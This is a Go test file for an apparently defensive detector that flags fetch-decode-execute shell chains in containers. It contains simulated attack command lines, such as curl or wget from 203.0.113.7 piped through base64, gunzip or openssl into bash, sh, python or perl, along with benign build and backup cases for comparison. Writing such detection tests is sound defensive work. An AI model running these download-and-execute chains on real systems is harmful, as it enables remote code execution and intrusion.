package pipeline_test

import (
	"testing"
	"time"

	"github.com/bollwerk/bollwerk"
	"github.com/bollwerk/bollwerk/detect"
	"github.com/bollwerk/bollwerk/detect/detecttest"
	"github.com/bollwerk/bollwerk/detect/pipeline"
)

func stories() map[string]*detecttest.Story {
	m := map[string]*detecttest.Story{}
	in, out := detecttest.In, detecttest.Out
	begin := func() (*detecttest.Story, *bollwerk.Process) {
		s := detecttest.New(detecttest.Container("web", "php:8.3-apache"))
		return s, s.Was(s.Was(nil, "/usr/sbin/apache2"), "/usr/bin/dash=sh -c x")
	}
	s, sh := begin()
	a, b := s.Pipe(), s.Pipe()
	s.Exec(sh, "/usr/bin/curl -s http://203.0.113.7/a", out(a))
	s.Exec(sh, "/usr/bin/base64 -d", in(a), out(b))
	s.Exec(sh, "/usr/bin/bash=bash", in(b))
	m["attack-curl-base64-bash"] = s

	s, sh = begin()
	a, b = s.Pipe(), s.Pipe()
	c := s.Pipe()
	s.Exec(sh, "/usr/bin/python3.11=python3 -", in(c))
	s.Exec(sh, "/usr/bin/gunzip", in(b), out(c))
	s.Exec(sh, "/usr/bin/xxd -r -p", in(a), out(b))
	s.Exec(sh, "/usr/bin/cat /tmp/.c", out(a))
	m["attack-backwards"] = s

	s, sh = begin()
	a = s.Pipe()
	s.Exec(sh, "/usr/bin/wget -qO- http://203.0.113.7/x.sh", out(a))
	s.Exec(sh, "/usr/bin/dash=sh", in(a))
	m["attack-wget-sh"] = s

	s, sh = begin()
	a = s.Pipe()
	s.Exec(sh, "/bin/busybox=busybox base64 -d", in(s.Pipe()), out(a))
	s.Exec(sh, "/bin/busybox=sh -s", in(a))
	m["attack-busybox"] = s

	s, sh = begin()
	s.Exec(sh, "/usr/bin/bash /dev/fd/63")
	s.Exec(sh, "/usr/bin/curl -s http://203.0.113.7/x", out(s.Pipe()))
	m["attack-process-substitution"] = s

	// bash -c 'bash <(curl …)': the last command replaces the shell.
	s, sh = begin()
	one := s.Exec(sh, "/usr/bin/bash -c 'bash <(curl -s http://203.0.113.7/x)'", in(s.Pipe()), out(s.Pipe()))
	s.Exec(one, "/usr/bin/curl -s http://203.0.113.7/x", in(s.Pipe()), out(s.Pipe()))
	s.Become(one, "/usr/bin/bash /dev/fd/63", in(s.Pipe()), out(s.Pipe()))
	m["attack-substitution-in-place"] = s

	s, sh = begin()
	a = s.Pipe()
	s.Exec(sh, "/usr/bin/openssl enc -aes-256-cbc -d -a -k x -in /tmp/p", out(a))
	s.Exec(sh, "/usr/bin/perl", in(a))
	m["attack-openssl-perl"] = s

	s, sh = begin()
	a = s.Pipe()
	s.Exec(sh, "/usr/bin/curl -s http://203.0.113.7/x", out(a))
	su := s.Exec(sh, "/usr/bin/sudo bash -s", in(a))
	s.Exec(su, "/usr/bin/bash -s", in(a))
	m["attack-sudo"] = s

	// base64 -d > f; sh f, where making f is seen …
	s, sh = begin()
	sub := s.Fork(sh)
	s.File(bollwerk.EventCreate, sub, "/opt/f")
	s.Become(sub, "/usr/bin/base64 -d", in(s.Pipe()))
	s.Exec(sh, "/usr/bin/dash=sh /opt/f")
	m["attack-file"] = s

	// … as a stage of a pipeline into a file that was there, run by its first line …
	s, sh = begin()
	a = s.Pipe()
	s.Exec(sh, "/usr/bin/base64 -d", in(s.Pipe()), out(a))
	sub = s.Fork(sh)
	s.File(bollwerk.EventOpen, sub, "/root/run.sh", func(f *bollwerk.FileEvent) { f.Access = bollwerk.AccessWrite })
	s.Become(sub, "/usr/bin/gunzip", in(a))
	s.Exec(sh, "/usr/bin/dash=sh ./run.sh", detecttest.Script("/root/run.sh"))
	m["attack-file-piped"] = s

	// … on the decoder's own command line, with a folder of the process …
	s, sh = begin()
	s.Exec(sh, "/usr/bin/openssl base64 -d -in x -out f.py", func(p *bollwerk.Process) { p.Cwd = "/home/u" })
	s.Exec(sh, "/usr/bin/python3.11=python3 /home/u/f.py")
	m["attack-file-named"] = s

	// … and where nobody saw it.
	s, sh = begin()
	s.Exec(sh, "/usr/bin/base64 -d", in(s.Pipe()))
	s.Exec(sh, "/usr/bin/dash=sh f", func(p *bollwerk.Process) { p.Cwd = "/tmp" })
	m["attack-file-unseen"] = s

	// x=$(… | base64 -d); echo "$x" | sh
	s, sh = begin()
	sub = s.Fork(sh)
	s.Exec(sub, "/usr/bin/base64 -d", in(s.Pipe()), out(s.Pipe()))
	s.Exec(sh, "/usr/bin/dash=sh", in(s.Pipe()))
	m["attack-variable"] = s

	// Whoever runs "make" and with it a container does not excuse what is done in there.
	container := func(above ...string) (*detecttest.Story, *bollwerk.Process) {
		s := detecttest.New(detecttest.Container("web", "php:8.3-apache"))
		var p *bollwerk.Process
		for _, line := range above {
			p = s.Was(p, line, detecttest.Outside)
		}
		return s, s.Exec(p, "/usr/bin/dash=sh -c 'echo … | base64 -d | sh'")
	}
	pipe := func(s *detecttest.Story, sh *bollwerk.Process) *detecttest.Story {
		a := s.Pipe()
		s.Exec(sh, "/usr/bin/base64 -d", in(s.Pipe()), out(a))
		s.Exec(sh, "/usr/bin/dash=sh", in(a))
		return s
	}
	m["attack-below-make"] = pipe(container("/usr/bin/make run", "/usr/bin/bash test/demo.sh", "/usr/bin/runc exec web sh"))
	m["attack-below-a-runner"] = pipe(container("/home/runner/bin/Runner.Worker spawnclient", "/usr/bin/bash", "/usr/bin/crun run web"))

	// Normal work.
	// A step of an image's build is a container, too; a build may put a sandbox around its steps.
	m["benign-build-step"] = pipe(container("/usr/bin/dockerd", "/usr/bin/runc --log x run --bundle y z")).
		Join(pipe(container("/usr/bin/buildkitd", "/usr/bin/buildkit-runc run z"))).Join(pipe(container("/usr/bin/podman build .", "/usr/bin/crun start z")))
	host := detecttest.New(detecttest.Host("ci.service"))
	bazel := host.Was(nil, "/usr/bin/bazel build //...")
	m["benign-sandboxed-build"] = pipe(host, host.Exec(bazel, "/usr/bin/bash -c x", func(p *bollwerk.Process) { p.Contained, p.MountNS, p.PIDNS = true, 4026532701, 4026532702 }))

	// What is decoded is not what is run; a shell whose input is its parent's; long after.
	s, sh = begin()
	sub = s.Fork(sh)
	s.File(bollwerk.EventCreate, sub, "/etc/tls/key.pem")
	s.Become(sub, "/usr/bin/base64 -d", in(s.Pipe()))
	s.Exec(sh, "/usr/bin/bash /opt/app/start.sh")
	s.Exec(sh, "/usr/bin/bash /tmp/setup.sh")
	outer := s.Pipe()
	sh2 := s.Was(nil, "/usr/bin/bash", in(outer))
	s.Exec(s.Fork(sh2), "/usr/bin/base64 -d", in(s.Pipe()), out(s.Pipe()))
	s.Exec(sh2, "/usr/bin/dash=sh", in(outer))
	sh3 := s.Was(nil, "/usr/bin/bash /entrypoint.sh")
	s.Exec(s.Fork(sh3), "/usr/bin/base64 -d", in(s.Pipe()), out(s.Pipe()))
	s.Exec(sh3, "/usr/bin/base64 -d", in(s.Pipe()))
	s.Wait(time.Minute)
	s.Exec(sh3, "/usr/bin/dash=sh", in(s.Pipe()))
	s.Exec(sh3, "/usr/bin/bash /tmp/x.sh")
	sh4 := s.Was(nil, "/usr/bin/bash /entrypoint.sh")
	s.Exec(sh4, "/usr/bin/gunzip -k /srv/data.gz")
	s.Exec(sh4, "/usr/bin/base64 /srv/data", in(s.Pipe()))
	s.Exec(sh4, "/usr/bin/dash=sh", in(s.Pipe()))
	s.Exec(sh4, "/usr/bin/bash /tmp/x.sh")
	m["benign-secrets"] = s

	s = detecttest.New(detecttest.Host(""))
	one = s.Was(nil, "/usr/lib/systemd/systemd=/sbin/init")
	sh = s.Exec(one, "/usr/bin/bash /usr/local/bin/backup.sh", detecttest.Script("/usr/local/bin/backup.sh"))
	a, b = s.Pipe(), s.Pipe()
	s.Exec(sh, "/usr/bin/curl -s http://127.0.0.1:9200/_cat/indices", out(a))
	s.Exec(sh, "/usr/bin/grep green", in(a), out(b))
	s.Exec(sh, "/usr/bin/awk=awk '{print $3}'", in(b), out(s.Pipe()))
	a, b = s.Pipe(), s.Pipe()
	s.Exec(sh, "/usr/bin/kubectl get secret db -o jsonpath={.data.password}", out(a))
	s.Exec(sh, "/usr/bin/base64 -d", in(a), out(b))
	s.Exec(sh, "/usr/bin/psql -h db -f -", in(b))
	a = s.Pipe()
	s.Exec(sh, "/usr/bin/curl -s https://api.example/v1/hosts", out(a))
	s.Exec(sh, "/usr/bin/python3.11=python3 -c 'import json,sys;print(json.load(sys.stdin)[0])'", in(a))
	a = s.Pipe()
	s.Exec(sh, "/usr/bin/curl -sL https://dl.example/go.tgz", out(a))
	s.Exec(sh, "/usr/bin/tar xz -C /usr/local", in(a))
	a = s.Pipe()
	s.Exec(sh, "/usr/bin/cat commands.txt", out(a))
	s.Exec(sh, "/usr/bin/bash -s", in(a))
	m["benign-scripts"] = s

	s = detecttest.New(detecttest.Container("build", "golang:1.26"))
	r := s.Was(s.Was(nil, "/usr/bin/buildkitd", detecttest.From(bollwerk.OriginHost)), "/usr/bin/dash=/bin/sh -c 'curl -fsSL https://setup.node.example/setup_22.x | bash -'")
	a = s.Pipe()
	s.Exec(r, "/usr/bin/curl -fsSL https://setup.node.example/setup_22.x", out(a))
	s.Exec(r, "/usr/bin/bash -", in(a))
	w := s.Was(nil, "/home/runner/runners/2.321.0/bin/Runner.Worker spawnclient 112 115")
	ws := s.Exec(w, "/usr/bin/bash -e /home/runner/work/_temp/a.sh")
	a = s.Pipe()
	s.Exec(ws, "/usr/bin/curl --proto =https -sSf https://sh.rustup.rs", out(a))
	s.Exec(ws, "/usr/bin/dash=sh -s -- -y", in(a))
	m["benign-builds"] = s

	s = detecttest.New(detecttest.Host(""))
	s.LoginUID, s.UID, s.TTY = 1000, 1000, "pts/1"
	sh = s.Was(nil, "/usr/bin/zsh=-zsh")
	a = s.Pipe()
	s.Exec(sh, "/usr/bin/curl -fsSL https://get.docker.com", out(a))
	s.Exec(sh, "/usr/bin/dash=sh", in(a))
	s.Exec(sh, "/usr/bin/curl -fsSL https://raw.example/install.sh", out(s.Pipe()))
	s.Exec(sh, "/usr/bin/bash -c '#!/bin/bash\nset -eu\necho installing\nexit 0'")
	m["benign-person"] = s
	return m
}

func TestStories(t *testing.T) { detecttest.Files(t, stories()) }

func TestContract(t *testing.T) {
	high := detecttest.Want{Severity: bollwerk.SeverityHigh}
	detecttest.Test(t, detecttest.Contract{New: func() detect.Detector { return pipeline.New() }, Want: map[string]detecttest.Want{
		"attack-curl-base64-bash": {Severity: bollwerk.SeverityHigh, Message: "fetched and decoded a moment before by curl, base64"},
		"attack-backwards":        {Severity: bollwerk.SeverityHigh, Message: "xxd, gunzip"},
		"attack-busybox":          high, "attack-openssl-perl": high,
		"attack-file":        {Severity: bollwerk.SeverityHigh, Message: "runs /opt/f, into which base64 decoded something a moment before"},
		"attack-file-piped":  {Severity: bollwerk.SeverityHigh, Message: "/root/run.sh, into which base64, gunzip decoded"},
		"attack-file-named":  {Severity: bollwerk.SeverityHigh, Message: "/home/u/f.py, into which openssl decoded"},
		"attack-file-unseen": {Severity: bollwerk.SeverityMedium, Message: "runs /tmp/f seconds after the same shell let base64 decode"},
		"attack-variable":    {Severity: bollwerk.SeverityMedium, Message: "takes its commands from the shell above it seconds after base64 decoded"},
		"attack-below-make":  high, "attack-below-a-runner": high,
		"attack-wget-sh": {Severity: bollwerk.SeverityMedium, Message: "dash (pid"},
	}})
}
